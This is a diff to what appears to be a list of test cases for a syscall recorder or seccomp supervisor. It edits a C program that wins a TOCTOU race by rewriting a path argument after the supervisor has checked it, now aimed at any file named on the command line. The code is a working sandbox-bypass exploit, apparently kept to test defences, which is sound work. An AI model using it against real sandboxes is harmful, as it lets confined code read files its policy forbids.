@@ -258,10 +258,11 @@ int main(void) {
     name: 'toctou-thread',
     what: 'the path rewritten by another thread after the recorder read it, before the kernel copies it (C, pthreads)',
     lang: 'c',
-    code: `/* TOCTOU on a path argument: main thread opens \`buf\`; a second thread, on another CPU, changes one
- * byte of it (decoy "y" to target "x") only after the main thread has blocked in the syscall and
- * woken up again, i.e. after a seccomp supervisor read the path and let the call go on, before
- * the kernel copies it. Without a seccomp filter the file is opened directly (same output). */
+    code: `/* TOCTOU on a path argument: the main thread opens a decoy path; a second thread, on another
+ * CPU, changes its last byte to the target's (argv[1]) only after the main thread has blocked in
+ * the syscall and woken up again, i.e. after a seccomp supervisor read the path and let the call
+ * go on, before the kernel copies it. Without a seccomp filter the file is opened directly (same
+ * output). */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <pthread.h>
@@ -273,11 +274,13 @@ int main(void) {
 #include <sys/syscall.h>
 #include <unistd.h>
 
-#define DECOY "../../shared/y"
-#define AT (sizeof DECOY - 2)
 #define NBUF 1024
+#define TRIES 5000
+/* The target (argv[1]) and a decoy that differs in its last byte. */
+static char target[256], decoy[256];
+static size_t at;
 /* A fresh copy of the path per attempt: a late write can only hit an attempt that is over. */
-static char bufs[NBUF][32];
+static char bufs[NBUF][256];
 static atomic_long current = -1; /* the attempt in open(), or -1 */
 static atomic_int stop;
 static pid_t main_tid;
@@ -322,7 +325,7 @@ static void *flipper(void *arg) {
       char st = state_of(fd);
       if (st == 'S') slept = 1;
       else if (slept && st == 'R') {
-        bufs[k % NBUF][AT] = 'x';
+        bufs[k % NBUF][at] = target[at];
         break;
       }
     }
@@ -339,9 +342,13 @@ static void print(int fd) {
   printf("out: %.*s\\n", (int)n, b);
 }
 
-int main(void) {
+int main(int argc, char **argv) {
+  snprintf(target, sizeof target, "%s", argc > 1 ? argv[1] : "../../shared/x");
+  at = strlen(target) - 1;
+  strcpy(decoy, target);
+  decoy[at] = target[at] == '~' ? '^' : '~';
   if (!filtered()) {
-    int fd = open("../../shared/x", O_RDONLY);
+    int fd = open(target, O_RDONLY);
     if (fd < 0) return perror("open"), 1;
     print(fd);
     return 0;
@@ -353,11 +360,12 @@ int main(void) {
   long tries = 0;
   for (;; tries++) {
     char *b = bufs[tries % NBUF];
-    strcpy(b, DECOY);
+    strcpy(b, decoy);
     atomic_store(&current, tries);
-    /* A machine where the race cannot be won still answers, by a plain open. */
-    int fd = tries < 200000 ? open(b, O_RDONLY) : open("../../shared/x", O_RDONLY);
+    /* A machine where the race cannot be won (or a missing target) ends with a plain open. */
+    int fd = tries < TRIES ? open(b, O_RDONLY) : open(target, O_RDONLY);
     atomic_store(&current, -1);
+    if (fd < 0 && tries >= TRIES) return perror("open"), 1;
     if (fd >= 0) {
       atomic_store(&stop, 1);
       print(fd);
